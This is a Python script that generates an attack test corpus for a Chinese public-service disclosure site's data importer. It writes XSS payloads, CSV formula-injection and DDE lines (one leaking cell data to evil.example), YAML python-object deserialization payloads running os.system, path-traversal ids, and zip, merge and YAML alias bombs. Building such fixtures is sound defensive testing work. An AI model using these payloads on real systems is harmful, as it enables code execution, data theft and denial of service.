"""Write the attack corpus: one folder per attack, each holding the files as they would sit in data/.

The folders are committed; this script documents how each nasty file was made (binary
workbooks especially) and rebuilds them: ``python tests/corpus/make_corpus.py``.
Expected outcomes live in EXPECTED.yaml, written by hand, not by this script.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
from openpyxl.styles import Border, Side

HERE = Path(__file__).resolve().parent
MINI = HERE.parent / "fixtures" / "mini"

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">点我</a>',
    "'><svg/onload=alert(1)>",
    "</textarea><iframe src=javascript:alert(1)>",
    "{{ 7*7 }}{% raw %}",
]
PII = {
    "mobile": "13957246813",
    "mobile_dashed": "139-5724-6813",
    "mobile_spaced": "139 5724 6813",
    "mobile_plus86": "+8613957246813",
    "mobile_fullwidth": "１３９５７２４６８１３",
    "id_number": "440304198507163723",
    "id_number_x": "11010519491231002X",
    "id_fullwidth": "５１０１０７１９７６０２０３４１５５",
    "bank_card": "6217001234567890122",
    "email": "zhang.san.home@example.com",
}


def rows_of(name: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO((MINI / name).read_text(encoding="utf-8-sig"), newline="")))


def csv_text(rows: list[list[str]], delimiter: str = ",", newline: str = "\n") -> str:
    buf = io.StringIO(newline="")
    csv.writer(buf, delimiter=delimiter, lineterminator=newline).writerows(rows)
    return buf.getvalue()


def put(attack: str, name: str, content: str | bytes, encoding: str = "utf-8") -> Path:
    path = HERE / attack / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode(encoding))
    return path


def workbook_bytes(wb) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return deterministic(buf.getvalue())


def deterministic(raw: bytes, patch=None, compression=zipfile.ZIP_DEFLATED) -> bytes:
    """Re-zip with fixed timestamps (and docProps without creation times) so rebuilding is
    byte-identical; ``patch`` rewrites the first worksheet's XML."""
    src = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name in src.namelist():
            data = src.read(name)
            if name == "docProps/core.xml":
                data = re.sub(rb"<dcterms:(created|modified)[^>]*>[^<]*</dcterms:\1>", b"", data)
            if name == "xl/worksheets/sheet1.xml" and patch:
                data = patch(data)
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            z.writestr(info, data, compress_type=compression if name == "xl/worksheets/sheet1.xml" else 8)
    return out.getvalue()


def sheet_from_rows(rows: list[list[object]], title: str = "Sheet1"):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = title
    for r in rows:
        ws.append(r)
    return wb, ws


# ---------------------------------------------------------------- encodings


def encodings():
    demands = rows_of("demands.csv")
    text = csv_text(demands).splitlines(keepends=True)
    # Saved once as UTF-8 with BOM, then rows pasted in from a GB18030 (ANSI) file.
    put(
        "csv-bom-then-gb18030",
        "demands.csv",
        b"\xef\xbb\xbf" + "".join(text[:4]).encode() + "".join(text[4:]).encode("gb18030"),
    )
    # No BOM: the first lines GB18030, the rest UTF-8.
    put("csv-gb18030-then-utf8", "demands.csv", "".join(text[:3]).encode("gb18030") + "".join(text[3:]).encode())
    # Valid GB18030 that is not valid UTF-8: a plain Chinese-Windows "ANSI" save.
    put("csv-gb18030-ansi", "units.csv", csv_text(rows_of("units.csv"), newline="\r\n"), "gb18030")
    # Excel "Unicode text" export: UTF-16LE with BOM, tab separated, CRLF, quoted cells.
    projects = rows_of("projects.csv")
    projects[2][8] = '疏通排水管网\t（分两期）\r\n第二期"雨污分流"'
    put("utf16-tab-unicode-text", "projects.txt", "\ufeff" + csv_text(projects, "\t", "\r\n"), "utf-16-le")
    # NUL bytes in the middle of a file (a half-written save, or UTF-16 without BOM).
    feedback = csv_text(rows_of("feedback.csv")).encode()
    put("nul-bytes", "feedback.csv", feedback.replace("有一盏".encode(), b"\x00\x00\x00"))
    # A quote opened and never closed: read leniently, every later row would become this cell.
    put("csv-unclosed-quote", "feedback.csv", csv_text(rows_of("feedback.csv")).replace("有一盏", '"有一盏', 1))
    # Nothing at all, and only a header.
    put("empty-file", "results.csv", b"")
    put("header-only", "progress.csv", csv_text(rows_of("progress.csv")[:1]))


# ---------------------------------------------------------------- layout


def layout():
    # Full-width and padded headers, a header wrapped inside its cell, header with spaces.
    units = rows_of("units.csv")
    units[0] = ["编　号", "单位 名称", "单位\n类别", " 结对社区 "]
    put("header-fullwidth-spaced", "units.csv", csv_text(units))

    # Title rows, a blank row above the header, a blank row in the data, trailing empty
    # rows with borders down to the last row Excel has and across to column XFD.
    projects = rows_of("projects.csv")
    wb, ws = sheet_from_rows(
        [
            ["测试区2026年“我为群众办实事”整改清单"],
            ["填报单位：区委办公室（盖章）", "", "", "填报日期：2026年6月30日"],
            [],
        ]
    )
    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(projects[0]))
    for r in projects[:3]:
        ws.append(r)
    ws.append([])
    for r in projects[3:]:
        ws.append(r)
    thin = Side(style="thin")
    for r in range(ws.max_row + 1, ws.max_row + 30):
        for c in range(1, len(projects[0]) + 1):
            ws.cell(row=r, column=c).border = Border(top=thin, bottom=thin, left=thin, right=thin)
    ws.cell(row=1048576, column=16384).border = Border(top=thin)
    put("title-blank-trailing-rows", "整改清单.xlsx", workbook_bytes(wb))

    # Merged cells as staff use them: one community for several demands, one category,
    # a title across the sheet.
    demands = rows_of("demands.csv")
    demands[2][1] = "C1"  # D002 in 桂香社区, merged with D001's cell above
    wb, ws = sheet_from_rows([["群众需求台账"], *demands])
    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(demands[0]))
    ws["B4"] = None
    ws.merge_cells("B3:B4")  # 社区 of D001 and D002
    ws["B7"] = None
    ws.merge_cells("B6:B7")  # 社区 of D004 and D005 (both C3)
    put("xlsx-merged-cells", "demands.xlsx", workbook_bytes(wb))

    # A list in the Excel lock file Excel leaves beside an open workbook: never read.
    put("excel-lock-file", "~$整改清单.xlsx", b"\x0bwang\x00\x00" + b"\x20" * 150)


# ---------------------------------------------------------------- values


def values():
    demands = rows_of("demands.csv")
    wb, ws = sheet_from_rows([demands[0]])
    for r in demands[1:]:
        ws.append(r)
    # A real Excel date cell (stored as serial 46027 with a date format) ...
    ws["C2"] = dt.datetime(2026, 1, 5)
    ws["C2"].number_format = "yyyy-mm-dd"
    # ... one with a Chinese date format ...
    ws["C3"] = dt.datetime(2026, 1, 8)
    ws["C3"].number_format = 'yyyy"年"m"月"d"日"'
    # ... and a serial number left in General format: staff see 46054, so does the check.
    ws["C4"] = 46054
    ws["C4"].number_format = "General"
    ws["C5"] = dt.date(2026, 2, 10)
    ws["C5"].number_format = "m/d/yyyy"
    put("excel-date-serials", "demands.xlsx", workbook_bytes(wb))

    demands = rows_of("demands.csv")
    forms = [
        "2026年1月5日",
        "2026.1.8",
        "2026/02/01 12:00:00",
        "2026-02-10T08:30",
        "2026 年 3 月 1 日",
        "２０２６－０３－１５",
    ]
    for row, form in zip(demands[1:], forms, strict=True):
        row[2] = form
    put("date-text-forms", "demands.csv", csv_text(demands))

    projects = rows_of("projects.csv")
    for row, pct in zip(projects[1:], ["100%", "４０", "６０％", " 0 ", "10.0"], strict=True):
        row[12] = pct
    put("percent-forms", "projects.csv", csv_text(projects))

    # Formula-looking free text in a CSV: it is text, and stays text.
    formulas = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "-2+3+cmd|' /C calc'!A0",
        "=cmd|' /C notepad'!'A1'",
        "＝1+1",
    ]
    projects = rows_of("projects.csv")
    for row, f in zip(projects[1:], formulas, strict=False):
        row[8] = f  # 主要举措
    feedback = rows_of("feedback.csv")
    for row, f in zip(feedback[1:], formulas[1:], strict=False):
        row[3] = f  # 意见
    results = rows_of("results.csv")
    results[1][2] = formulas[0]
    results[1][4] = formulas[2]
    put("formula-text-csv", "projects.csv", csv_text(projects))
    put("formula-text-csv", "feedback.csv", csv_text(feedback))
    put("formula-text-csv", "results.csv", csv_text(results))

    # Real formula cells in a workbook, with the values Excel cached when it saved them
    # (data_only reads those); one formula has no cached value (a tool wrote the file).
    projects = rows_of("projects.csv")
    wb, ws = sheet_from_rows(projects)
    ws["I2"] = '=HYPERLINK("http://evil.example/","更换楼道灯120盏")'
    ws["I3"] = '="疏通"&"排水管网"'
    ws["M4"] = "=30+30"
    ws["I5"] = "=1+1"

    def cache(data: bytes) -> bytes:
        cached = {
            "I2": ("str", "更换楼道灯120盏"),
            "I3": ("str", "疏通排水管网"),
            "M4": ("n", "60"),
            "I5": ("str", "=cmd|' /C calc'!A0"),  # a formula whose result is formula text
        }
        for ref, (kind, value) in cached.items():
            escaped = value.replace("&", "&amp;").replace("<", "&lt;").encode()
            data = re.sub(
                rb'<c r="' + ref.encode() + rb'"><f>(.*?)</f><v ?/>',
                lambda m, k=kind, v=escaped, r=ref: (
                    b'<c r="' + r.encode() + b'" t="' + k.encode() + b'"><f>' + m.group(1) + b"</f><v>" + v + b"</v>"
                ),
                data,
            )
        return data

    put("xlsx-formula-cells", "projects.xlsx", deterministic(workbook_bytes(wb), cache))


# ---------------------------------------------------------------- hostile content


def hostile():
    payload = "".join(XSS)
    site = (MINI / "site.yaml").read_text(encoding="utf-8")
    site = site.replace("name: 测试区办实事公示平台", "name: '测试区\"><script>alert(1)</script>平台'")
    site = site.replace("district: 测试区", "district: '测试区<img src=x onerror=alert(1)>'")
    site = site.replace("contact: 区委办公室", "contact: '<a href=\"javascript:alert(1)\">区委办公室</a>'")
    site = site.replace("organizer: 测试区委办公室", "organizer: '\"><svg onload=alert(1)>测试区委办公室'")
    site = site.replace("icp: 示例ICP备0001号", "icp: '<iframe src=javascript:alert(1)>示例ICP备0001号'")
    put("xss-site-settings", "site.yaml", site)
    free = {
        "projects.csv": ["项目名称", "领办人", "主要举措"],
        "demands.csv": ["需求内容", "未采纳原因"],
        "progress.csv": ["进展情况"],
        "results.csv": ["办理成效", "佐证材料"],
        "feedback.csv": ["意见"],
        "units.csv": ["单位名称", "单位类别"],
    }
    for name, columns in free.items():
        rows = rows_of(name)
        for row in rows[1:]:
            for col in columns:
                j = rows[0].index(col)
                row[j] = (row[j] or "文字") + payload
        put("xss-everywhere", name, csv_text(rows))
    areas = rows_of("areas.csv")
    for row in areas[1:]:
        if row[0] != "C1":  # D002 refers to 桂香社区 by name
            row[1] = row[1] + XSS[0] + XSS[1]
    put("xss-everywhere", "areas.csv", csv_text(areas))

    # Personal data typed into every published text column, in every form staff type it.
    free_pii = {**free, "areas.csv": ["name"]}
    sample = (
        "联系{mobile}或{mobile_dashed}、{mobile_spaced}、{mobile_plus86}、{mobile_fullwidth}，"
        "身份证{id_number}、{id_number_x}、{id_fullwidth}，卡号{bank_card}，邮箱{email}"
    )
    text = sample.format(**PII)
    for name, columns in free_pii.items():
        rows = rows_of(name)
        for row in rows[1:]:
            for col in columns:
                j = rows[0].index(col)
                if name == "areas.csv" and row[0] == "C1":
                    continue
                row[j] = (row[j] or "文字") + text
        put("pii-everywhere", name, csv_text(rows))

    # Ids a URL must not be built from, and ids that differ only in look.
    projects = rows_of("projects.csv")
    base = projects[4]  # P4, not started: nothing refers to it
    for new_id in ["P１", "p2", "Р3", "P5/../../x", "..\\P6", "P 7", "P-7", "<P8>", "P8", "ＰＸ", "px", "%2e%2e"]:
        projects.append([new_id, *base[1:]])
    put("id-lookalikes-and-paths", "projects.csv", csv_text(projects))


# ---------------------------------------------------------------- size and structure


def sizes():
    units = rows_of("units.csv")
    header = ",".join(units[0]) + "⟪EMPTY-COLUMNS⟫,备注\n"  # 99,996 empty header cells, then one more
    put("wide-header-100k", "units.csv", header + "".join(",".join(r) + "\n" for r in units[1:]))

    projects = rows_of("projects.csv")
    projects[2][8] = "⟪TEN-MB⟫"
    put("huge-cell-10mb", "projects.csv", csv_text(projects))


def workbooks():
    progress = rows_of("progress.csv")
    wb, _ = sheet_from_rows(progress)
    plain = workbook_bytes(wb)
    # 201 MB of white space inside the sheet XML, bzip2-compressed to a few hundred bytes.
    pad = b"<sheetData>" + b" " * (201 * 1024 * 1024)
    put(
        "xlsx-zip-bomb",
        "progress.xlsx",
        deterministic(plain, lambda d: d.replace(b"<sheetData>", pad, 1), zipfile.ZIP_BZIP2),
    )
    # One merged range over the whole sheet: openpyxl would create 17 billion cell objects.
    merge = b'</sheetData><mergeCells count="1"><mergeCell ref="A7:XFD1048576"/></mergeCells>'
    put("xlsx-merge-bomb", "progress.xlsx", deterministic(plain, lambda d: d.replace(b"</sheetData>", merge, 1)))
    # A stray value in the sheet's very last cell: the used range is 17 billion cells.
    wb, ws = sheet_from_rows(rows_of("results.csv"))
    ws.cell(row=1048576, column=16384, value="x")
    put("xlsx-value-in-last-cell", "results.xlsx", workbook_bytes(wb))
    # A workbook whose sheet's compressed stream is damaged (a bad download or USB stick).
    raw = bytearray(plain)
    at = raw.find(b"xl/worksheets/sheet1.xml") + len("xl/worksheets/sheet1.xml") + 40
    raw[at : at + 16] = bytes(range(16))
    put("xlsx-corrupt-deflate", "progress.xlsx", bytes(raw))
    # Only formatting there: ignored.
    wb, ws = sheet_from_rows(rows_of("results.csv"))
    ws.cell(row=1048576, column=16384).number_format = "0%"
    put("xlsx-format-in-last-cell", "results.xlsx", workbook_bytes(wb))


def yamls():
    put(
        "yaml-python-object",
        "site.yaml",
        'name: !!python/object/apply:os.system ["touch PWNED"]\n'
        "district: !!python/object/new:subprocess.Popen [[touch, PWNED]]\n"
        "as_of: 2026-06-30\n",
    )
    put(
        "yaml-python-object-in-list",
        "progress.yaml",
        '- 项目编号: P1\n  日期: 2026-02-01\n  进展情况: !!python/object/apply:os.system ["touch PWNED"]\n',
    )
    lines = ['- &a0 {项目编号: P1, 日期: 2026-02-01, 进展情况: ["哈", "哈", "哈", "哈", "哈", "哈", "哈", "哈", "哈"]}']
    lines += [f"- &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    put("yaml-alias-bomb", "progress.yaml", "\n".join(lines) + "\n")
    put("yaml-deep-nesting", "results.yaml", "[" * 10000 + "]" * 10000 + "\n")
    put(
        "yaml-multiple-documents",
        "feedback.yaml",
        "- 项目编号: P1\n  评价日期: 2026-04-12\n  评价: 满意\n---\n- 项目编号: P3\n",
    )
    put("yaml-not-a-mapping", "site.yaml", "- name: 测试区办实事公示平台\n- district: 测试区\n- as_of: 2026-06-30\n")
    # Explicit tags on empty values: PyYAML itself fails on these with IndexError/KeyError.
    put(
        "yaml-empty-tagged-values",
        "progress.yaml",
        "- 项目编号: P1\n  日期: !!timestamp\n  进展情况: !!float\n  完成比例: !!int\n"
        "- 项目编号: P2\n  日期: 2026-03-01\n  进展情况: !!str\n  完成比例: !!float 20\n",
    )
    put("yaml-bad-date-in-list", "results.yaml", "- 项目编号: P1\n  完成日期: 2026-02-30\n  办理成效: 全部亮起\n")
    site = (
        (MINI / "site.yaml")
        .read_text(encoding="utf-8")
        .replace("base_url: https://example.gov.cn/zl/bssh", 'base_url: "javascript:alert(document.domain)//"')
    )
    put("yaml-base-url-javascript", "site.yaml", site)


def main():
    for child in HERE.iterdir():
        if child.is_dir():
            shutil.rmtree(child)
    encodings()
    layout()
    values()
    hostile()
    sizes()
    workbooks()
    yamls()
    put("_outside", "units.csv", csv_text(rows_of("units.csv")))  # what the symlink attacks point at


if __name__ == "__main__":
    main()
